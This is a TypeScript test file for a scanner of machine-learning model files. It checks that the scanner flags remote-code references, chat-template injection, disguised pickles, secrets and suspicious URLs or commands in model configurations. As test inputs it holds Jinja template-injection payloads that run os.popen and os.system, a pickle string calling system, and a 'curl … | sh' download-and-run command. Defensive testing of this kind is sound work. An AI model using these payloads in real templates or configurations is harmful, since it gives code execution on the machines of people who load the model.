import { describe, expect, it } from 'vitest';
import { buildZip } from '../../formats/zip/test-support/zip-builder.js';
import { analyseBytes, ruleList } from '../test-support.js';

const scan = (json: string, path = 'config.json') => analyseBytes(Buffer.from(json), path);

describe('Hugging Face configuration', () => {
  it('lists the modules auto_map makes trust_remote_code run, including other repositories', async () => {
    const r = await scan(
      JSON.stringify({
        architectures: ['MyModel'],
        auto_map: {
          AutoConfig: 'configuration_my.MyConfig',
          AutoModelForCausalLM: 'modeling_my.MyModel',
          AutoTokenizer: ['other/repo--tokenization_my.MyTokenizer', null],
        },
      }),
    );
    expect(r.format).toBe('json');
    const f = r.findings.find((x) => x.ruleId === 'HF-REMOTE-CODE');
    expect(f?.severity).toBe('high');
    expect(f?.message).toContain('configuration_my.py, modeling_my.py, other/repo: tokenization_my.py');
    expect(f?.message).toContain('fetched from other repositories (other/repo)');
  });

  it('reports custom pipeline implementations', async () => {
    const r = await scan(JSON.stringify({ custom_pipelines: { 'text-x': { impl: 'pipe.MyPipeline' } } }));
    expect(r.findings.map((f) => f.message).join()).toContain('pipe.py');
  });

  it('reports nothing for configurations transformers implements itself, or for other JSON', async () => {
    expect((await scan('{"model_type": "bert", "hidden_size": 768}')).findings).toEqual([]);
    expect((await scan('  {"auto_map": "not a map"}')).findings).toEqual([]);
    const broken = await scan('{"auto_map": ');
    expect(broken.findings).toEqual([]);
    expect(broken.format).toBe('unknown');
  });
});

/** A standard Stable Diffusion model_index.json, as diffusers writes it. */
const STANDARD_MODEL_INDEX = {
  _class_name: 'StableDiffusionPipeline',
  _diffusers_version: '0.30.0',
  feature_extractor: ['transformers', 'CLIPImageProcessor'],
  image_encoder: [null, null],
  requires_safety_checker: true,
  safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
  scheduler: ['diffusers', 'PNDMScheduler'],
  text_encoder: ['transformers', 'CLIPTextModel'],
  tokenizer: ['transformers', 'CLIPTokenizer'],
  unet: ['diffusers', 'UNet2DConditionModel'],
  vae: ['diffusers', 'AutoencoderKL'],
};

/** A standard sentence-transformers modules.json. */
const STANDARD_MODULES = [
  { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
  { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
  { idx: 2, name: '2', path: '2_Normalize', type: 'sentence_transformers.models.Normalize' },
];

describe('code references without the folder (a lone configuration, or one inside an archive)', () => {
  const remote = async (json: unknown, path: string) =>
    (await scan(JSON.stringify(json), path)).findings.filter((f) => f.ruleId === 'HF-REMOTE-CODE');

  it('reports diffusers components from libraries diffusers does not know as custom component files', async () => {
    const found = await remote(
      { ...STANDARD_MODEL_INDEX, unet: ['my_unet', 'MyUNet'], scheduler: ['evil.sub', 'S'] },
      'model_index.json',
    );
    expect(found.map((f) => f.severity)).toEqual(['high']);
    expect(found[0]?.message).toContain('diffusers component');
    expect(found[0]?.message).toContain('scheduler/evil.sub.py, unet/my_unet.py');
    expect(found[0]?.evidence).toContain('unet: ["my_unet","MyUNet"]');
  });

  it('stays silent on a standard diffusers pipeline, and reads component lists only in model_index.json', async () => {
    expect((await scan(JSON.stringify(STANDARD_MODEL_INDEX), 'model_index.json')).findings).toEqual([]);
    expect(await remote({ unet: ['my_unet', 'MyUNet'] }, 'unrelated.json')).toEqual([]);
  });

  it('reports custom pipelines named by _class_name: a module of the repository, or another repository', async () => {
    const local = await remote(
      { ...STANDARD_MODEL_INDEX, _class_name: ['my_pipeline', 'MyPipeline'] },
      'model_index.json',
    );
    expect(local.map((f) => `${f.severity} ${f.message}`)).toEqual([
      expect.stringMatching(/^high .*diffusers pipeline.*my_pipeline\.py/),
    ]);
    const other = await remote({ _class_name: ['someone/pipes', 'MyPipeline'] }, 'model_index.json');
    expect(other[0]?.message).toContain('someone/pipes: pipeline.py');
    expect(other[0]?.message).toContain('fetched from other repositories (someone/pipes)');
  });

  it('flags component names that leave the repository folder', async () => {
    const found = await remote({ '../../tmp': ['x', 'Y'] }, 'model_index.json');
    expect(found[0]?.message).toContain('leave the repository folder: ../../tmp/x.py');
  });

  it('reports sentence-transformers modules outside the library: custom code high, installed modules medium', async () => {
    expect(await remote(STANDARD_MODULES, 'modules.json')).toEqual([]);
    const custom = await remote(
      [...STANDARD_MODULES, { idx: 3, name: '3', path: '3_Custom', type: 'custom_st.CustomModule' }],
      'modules.json',
    );
    expect(custom.map((f) => f.severity)).toEqual(['high']);
    expect(custom[0]?.message).toContain('sentence-transformers module');
    expect(custom[0]?.message).toContain('custom_st.py');
    const foreign = await remote([{ type: 'other/repo--custom_st.Mod' }], 'modules.json');
    expect(foreign[0]?.message).toContain('other/repo: custom_st.py');
    const installed = await remote([{ type: 'some_package.models.Pooler' }], 'modules.json');
    expect(installed.map((f) => `${f.severity} ${f.message}`)).toEqual([
      expect.stringContaining(
        "medium Loading this model imports Python code that is not part of the library, through sentence-transformers module: the installed module 'some_package.models'",
      ),
    ]);
  });

  it('reads a JSON list only as modules.json', async () => {
    const list = JSON.stringify([{ type: 'custom_st.CustomModule' }]);
    expect((await scan(list, 'modules.json')).format).toBe('json');
    expect((await scan(list, 'other.json')).format).not.toBe('json');
  });

  it('reports auto_map in tokenizer and processor configurations, including the legacy list form and null entries', async () => {
    const legacy = await remote({ auto_map: ['tokenization_x.XTokenizer', null] }, 'tokenizer_config.json');
    expect(legacy.map((f) => f.severity)).toEqual(['high']);
    expect(legacy[0]?.message).toContain('tokenization_x.py');
    const processor = await remote(
      { auto_map: { AutoImageProcessor: 'image_processing_x.P', AutoProcessor: 'a/b--processing_x.Q' } },
      'preprocessor_config.json',
    );
    expect(processor[0]?.message).toContain('a/b: processing_x.py, image_processing_x.py');
    expect(await remote({ auto_map: { AutoTokenizer: [null, null] } }, 'tokenizer_config.json')).toEqual([]);
  });

  it('reports an auto_map that points at another repository even though none of its code is here', async () => {
    const found = await remote(
      { auto_map: { AutoModel: 'other-user/other-repo--modeling_x.MyModel' } },
      'config.json',
    );
    expect(found.map((f) => f.severity)).toEqual(['high']);
    expect(found[0]?.message).toContain('fetched from other repositories (other-user/other-repo)');
  });

  it('reports references in configurations inside an archive, located at the member', async () => {
    const zip = buildZip([
      { name: 'pipe/model_index.json', data: JSON.stringify({ unet: ['my_unet', 'MyUNet'] }) },
      { name: 'st/modules.json', data: JSON.stringify([{ type: 'custom_st.CustomModule' }]) },
    ]);
    const r = await analyseBytes(zip, 'bundle.zip');
    const found = r.findings.filter((f) => f.ruleId === 'HF-REMOTE-CODE');
    expect(found.map((f) => `${f.severity} ${f.location.member}`).sort()).toEqual([
      'high pipe/model_index.json',
      'high st/modules.json',
    ]);
  });

  it('names the base model of a PEFT adapter at info, and nothing more', async () => {
    const r = await scan(
      JSON.stringify({ peft_type: 'LORA', base_model_name_or_path: 'meta-llama/Llama-2-7b-hf', r: 8 }),
      'adapter_config.json',
    );
    expect(ruleList(r.findings)).toEqual(['HF-ADAPTER-BASE-MODEL:info']);
    expect(r.findings[0]?.message).toContain("'meta-llama/Llama-2-7b-hf'");
    const elsewhere = await scan(JSON.stringify({ base_model_name_or_path: 'x/y' }), 'config.json');
    expect(elsewhere.findings).toEqual([]);
  });
});

describe('chat templates in configurations and template files', () => {
  it('analyses chat_template strings, named lists and other *template* keys', async () => {
    const evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    const benign = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
    const rules = async (json: unknown) =>
      (await scan(JSON.stringify(json))).findings.map((f) => `${f.ruleId}:${f.severity}`);
    expect(await rules({ chat_template: benign })).toEqual([]);
    expect(await rules({ chat_template: evil })).toEqual(['TEMPLATE-INJECTION:critical']);
    expect(
      await rules({
        chat_template: [
          { name: 'default', template: benign },
          { name: 'tool_use', template: evil },
        ],
      }),
    ).toEqual(['TEMPLATE-INJECTION:critical']);
    expect(await rules({ chat_template: benign, custom_chat_template: evil })).toEqual([
      'TEMPLATE-INJECTION:critical',
    ]);
  });

  it('analyses standalone .jinja and .j2 files', async () => {
    const r = await scan("{{ ''.__class__.__mro__[1].__subclasses__() }}", 'chat_template.jinja');
    expect(r.format).toBe('jinja');
    expect(r.findings.map((f) => f.ruleId)).toEqual(['TEMPLATE-INJECTION']);
    expect((await scan('{% for m in messages %}{{ m.content }}{% endfor %}', 'x.j2')).findings).toEqual([]);
    expect((await scan("{{ lipsum.__globals__.os.popen('id') }}", 'chat.template')).findings).toHaveLength(1);
  });
});

describe('YAML configurations', () => {
  it('analyses templates under any key naming one, and leaves a pickle named .yaml to the pickle analysis', async () => {
    const r = await scan(
      "model: x\nchat_template: \"{{ config.__class__.__init__.__globals__['os'].system('id') }}\"\n",
      'serve.yaml',
    );
    expect(r.format).toBe('yaml');
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['TEMPLATE-INJECTION:critical']);
    const disguised = await scan('cposix\nsystem\n(Vid\ntR.', 'config.yaml');
    expect(disguised.findings.map((f) => `${f.ruleId}:${f.severity}`)).toContain(
      'PICKLE-IMPORT-DANGEROUS:critical',
    );
  });
});

describe('indicators in model configurations', () => {
  const rules = async (json: unknown, path = 'config.json') =>
    (await scan(JSON.stringify(json), path)).findings.map((f) => `${f.ruleId}:${f.severity}`).sort();

  it('reports credentials without printing them: vendor prefixes, key blocks, random values under secret-like keys', async () => {
    const token = `hf_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z'}`;
    const r = await scan(
      JSON.stringify({ a: token, nested: { api_key: 'q9Z!x7Lp2Rt5', password: 'changeme' } }),
    );
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual([
      'HF-CONFIG-SECRET:medium',
      'HF-CONFIG-SECRET:medium',
    ]);
    const text = JSON.stringify(r.findings);
    expect(text).not.toContain(token);
    expect(text).not.toContain('q9Z!x7Lp2Rt5');
    expect(text).toContain('hf_a… (37 chars)');
    expect(await rules({ k: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' })).toEqual(['HF-CONFIG-SECRET:medium']);
    expect(await rules({ aws: 'AKIAIOSFODNN7EXAMPLE' }, 'generation_config.json')).toEqual([
      'HF-CONFIG-SECRET:medium',
    ]);
  });

  it('reports URLs outside the hubs, shell commands and code; hub and paper URLs are normal', async () => {
    expect(await rules({ callback: 'http://203.0.113.9:8080/collect' })).toEqual([
      'HF-CONFIG-INDICATOR:medium',
    ]);
    expect(await rules({ post: 'curl http://x.test/a.sh | sh' })).toEqual([
      'HF-CONFIG-INDICATOR:medium',
      'HF-CONFIG-INDICATOR:medium',
    ]);
    expect(await rules({ init: "__import__('os').system('id')" })).toEqual(['HF-CONFIG-INDICATOR:medium']);
    expect(
      await rules({
        _name_or_path: '/home/me/models/llama',
        paper: 'https://arxiv.org/abs/1706.03762',
        repo: 'https://huggingface.co/bert-base-uncased/resolve/main/vocab.txt',
        code: 'https://github.com/huggingface/transformers',
      }),
    ).toEqual([]);
  });

  it('leaves tokenizer special tokens, templates and JSON that is not a configuration alone', async () => {
    expect(
      await rules(
        {
          pad_token: '<pad>',
          eos_token: '</s>',
          bos_token: { content: '<s>' },
          use_auth_token: true,
          token: null,
        },
        'tokenizer_config.json',
      ),
    ).toEqual([]);
    expect(await rules({ url: 'http://evil.test/x' }, 'package.json')).toEqual([]);
  });

  it('stays bounded on hostile nesting', async () => {
    const deep = `${'['.repeat(1000)}${']'.repeat(1000)}`;
    const r = await scan(`{"a": ${deep}}`);
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['HF-CONFIG-INDICATOR:medium']);
    expect(r.notAnalysed).toBe(1);
  });
});
